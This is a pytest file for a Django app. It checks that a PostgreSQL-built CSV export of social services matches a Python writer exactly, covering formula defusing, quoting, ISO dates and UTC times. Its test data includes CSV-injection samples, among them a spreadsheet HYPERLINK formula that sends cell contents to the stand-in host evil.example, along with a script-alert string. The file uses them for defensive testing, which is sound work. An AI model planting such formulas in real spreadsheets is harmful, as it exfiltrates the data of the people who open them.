"""The service CSV is written by PostgreSQL (``atlas.core.spreadsheets.CsvLines``), and must
be byte for byte what the Python writer (``csv_lines``, every cell through ``csv_cell``)
makes of the same rows: the same formula defusing, quoting, true/false, ISO dates and
numbers. The Python writer over ``service_rows`` is the oracle here."""

import datetime

import pytest
from django.contrib.gis.geos import Point
from django.db import connection
from django.db.models import DecimalField, F, JSONField, Value
from django.utils import timezone

from atlas.core.spreadsheets import FORMULA_PREFIXES, CsvLines, csv_lines
from providers.exports import (
    SERVICE_COLUMNS,
    export,
    service_csv_lines,
    service_lines,
    service_rows,
)
from providers.models import Service, TargetGroup
from tests.factories import (
    CategoryFactory,
    LocationFactory,
    OrganizationFactory,
    ServiceFactory,
)

pytestmark = pytest.mark.django_db

# Every text a stranger could type that a CSV writer must take care of.
HOSTILE_TEXTS = [
    *(f"{prefix}1+1" for prefix in FORMULA_PREFIXES),
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "Komma, und Punkt",
    'Sie sagt "Hallo"',
    '"',
    "Zeile\nUmbruch",
    "Wagen\rRücklauf",
    "Windows\r\nZeile",
    '=,"\n',
    "'Apostroph",
    " führendes Leerzeichen ",
    "Tab\tmitten",
    "Ünïcödé ß € 👪",
    "<script>alert(1)</script>",
    "a-b+c=d@e",
    "",
]


def _python_csv(services) -> str:
    """What the Python writer makes of the same rows: the oracle."""
    header = [name for name, _ in SERVICE_COLUMNS]
    return "".join(csv_lines([header, *service_rows(services)]))


def _sql_csv(services) -> str:
    return "".join(service_csv_lines(services))


@pytest.fixture
def hostile_services():
    # Two categories: the aggregated cell holds a comma and is quoted.
    categories = [CategoryFactory(slug="kita"), CategoryFactory(slug="=beratung")]
    services = []
    for index, text in enumerate(HOSTILE_TEXTS):
        organization = OrganizationFactory(name=f"{text} Träger {index}", external_id=text)
        location = LocationFactory(
            organization=organization,
            name=text,
            external_id=f"{text}-{index}",
            street=text,
            house_number=text[:10],
            postcode=text[:10],
            city=text,
        )
        service = ServiceFactory(
            organization=organization,
            name=text or "(leer)",  # a service needs a name
            external_id=f"{text}#{index}",
            description=text,
            fees=text,
            opening_hours=text,
            website=text,
            email=text,
            phone=text,
            languages=[text, "de"],
            legal_basis=[text],
            locations=[location],
            categories=categories,
        )
        services.append(service)
    return services


def test_hostile_text_in_every_column_is_written_as_the_python_writer_writes_it(
    hostile_services,
):
    services = Service.objects.filter(pk__in=[s.pk for s in hostile_services])
    written = _sql_csv(services)
    assert written == _python_csv(services)
    # And the oracle itself defuses: no line has a cell that starts a formula.
    assert "\n=HYPERLINK" not in written and ",=HYPERLINK" not in written
    assert ",'=HYPERLINK" in written


def test_empty_values_numbers_dates_and_times_are_written_as_python_writes_them():
    organization = OrganizationFactory()
    TargetGroup.objects.get_or_create(slug="kinder", defaults={"name": "Kinder"})
    integral = LocationFactory(organization=organization, point=Point(13.0, 52.0, srid=4326))
    fractional = LocationFactory(
        organization=organization, point=Point(13.404954, 52.520008, srid=4326)
    )
    tiny = LocationFactory(organization=organization, point=Point(-0.5, -1e-05, srid=4326))
    full = ServiceFactory(
        organization=organization,
        locations=[integral, fractional, tiny],
        min_age=0,
        max_age=27,
        is_free=False,
        valid_from=datetime.date(2026, 1, 1),
        valid_until=datetime.date(2099, 12, 31),
        last_verified=datetime.date(2020, 2, 29),
    )
    full.target_groups.set(TargetGroup.objects.all()[:2])
    bare = ServiceFactory(
        organization=organization,
        description="",
        min_age=None,
        max_age=None,
        is_free=True,
        last_verified=None,
        languages=[],
        legal_basis=[],
    )  # no location: one row with empty location columns
    # A time without microseconds is written without a fraction, one with them with six
    # digits, in UTC, whatever the time zone of the session.
    Service.objects.filter(pk=full.pk).update(
        updated_at=datetime.datetime(2026, 12, 6, 3, 4, 5, tzinfo=datetime.UTC)
    )
    Service.objects.filter(pk=bare.pk).update(
        updated_at=timezone.make_aware(
            datetime.datetime(2026, 7, 1, 23, 30, 0, 120), timezone.get_fixed_timezone(120)
        )
    )
    services = Service.objects.filter(pk__in=[full.pk, bare.pk])
    written = _sql_csv(services)
    assert written == _python_csv(services)
    assert "2026-12-06T03:04:05+00:00" in written
    assert "2026-07-01T21:30:00.000120+00:00" in written
    assert ",13.0,52.0\r\n" in written and ",-0.5,-1e-05\r\n" in written


def test_the_admin_and_command_line_csv_of_services_is_the_same_table(hostile_services):
    services = Service.objects.filter(pk__in=[s.pk for s in hostile_services])
    assert export(services, "csv") == _python_csv(services).encode("utf-8")


def test_no_services_is_the_header_alone():
    services = Service.objects.none()
    assert _sql_csv(services) == _python_csv(services)
    assert _sql_csv(services).startswith("\ufeffservice_id,external_id,name,")


@pytest.mark.parametrize(
    "value", [Value(1.5, output_field=DecimalField()), Value({"a": 1}, output_field=JSONField())]
)
def test_a_value_without_a_csv_form_is_refused_when_compiled(value):
    rows = Service.objects.annotate(a=F("name"), b=value).values_list("a", "b")
    with pytest.raises(TypeError, match="No CSV form"):
        list(CsvLines(rows).iterator())


@pytest.mark.parametrize(
    "rows, message",
    [
        (lambda: Service.objects.all(), "every column named"),
        (
            lambda: Service.objects.values_list("name").order_by("pk"),
            "orders by its columns only",
        ),
    ],
)
def test_columns_without_a_name_and_other_orders_are_refused(rows, message):
    with pytest.raises(ValueError, match=message):
        CsvLines(rows()).sql_with_params()


def test_passed_columns_follow_the_line_and_the_order_is_the_querys():
    ServiceFactory(name="Alpha, erste")
    ServiceFactory(name="Beta")
    rows = Service.objects.annotate(a=F("name"), v=Value(7)).values_list("a", "v").order_by("-a")
    assert list(CsvLines(rows, passed=["v"]).iterator(chunk_size=1)) == [
        ("Beta\r\n", 7),
        ('"Alpha, erste"\r\n', 7),
    ]
    # Read in that order by the statement itself, not by the derived table's chance.
    assert CsvLines(rows).sql_with_params()[0].endswith(' ORDER BY r."a" DESC')
    with pytest.raises(ValueError, match="No such columns"):
        CsvLines(rows, passed=["w"]).sql_with_params()


def test_the_lines_are_written_after_the_one_sort(hostile_services):
    """The derived table is read in its own order: one sort, of the typed rows."""
    sql, params = service_lines(Service.objects.all()).sql_with_params()
    with connection.cursor() as cursor:
        cursor.execute("EXPLAIN " + sql, params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert plan.startswith("Subquery Scan on r"), plan
    assert plan.count("Sort Key: providers_service.name") == 1, plan


def test_the_lines_do_not_depend_on_the_servers_date_style_or_time_zone(hostile_services):
    """A municipality's PostgreSQL may run with DateStyle German or a local TimeZone; the
    CSV stays ISO and UTC (psycopg2, which reads only ISO, cannot be the oracle here)."""
    services = Service.objects.filter(pk__in=[s.pk for s in hostile_services])
    Service.objects.filter(pk=hostile_services[0].pk).update(
        valid_from=datetime.date(2026, 3, 1),
        updated_at=datetime.datetime(2026, 12, 6, 23, 59, 58, 5, tzinfo=datetime.UTC),
    )
    expected = _sql_csv(services)
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL DateStyle = 'German, DMY'")
        cursor.execute("SET LOCAL TimeZone = 'Pacific/Kiritimati'")
        written = "".join(line for (line,) in service_lines(services).iterator())
    assert written == expected.split("\r\n", 1)[1]
    assert ",2026-03-01," in written and ",2026-12-06T23:59:58.000005+00:00," in written
